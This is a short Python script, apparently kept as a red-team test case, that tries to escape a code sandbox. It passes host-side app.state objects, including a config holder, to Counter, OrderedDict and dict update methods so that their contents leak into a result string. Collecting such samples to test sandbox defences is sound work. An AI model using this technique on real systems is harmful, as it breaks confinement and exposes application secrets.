# ruff: noqa - a hostile script, kept as written
# threat: 5 read the app's secrets or change the app
# technique: collections.Counter.update and dict.update call .keys()/.items() with the real getattr on a mapping argument: pass host proxies of dict subclasses (one holds the config)
# red team: 6d8a476, wide allowlist
import collections

c = collections.Counter()
seen = []
for source in (app.state.engine.holder, app.state.registry, app.state.engine.cache_config):
    for fill in (c.update, collections.OrderedDict().update, dict().update):
        try:
            fill(source)
            seen.append(repr(c))
        except Exception as exc:
            seen.append(repr(exc)[:60])
result = repr(seen)
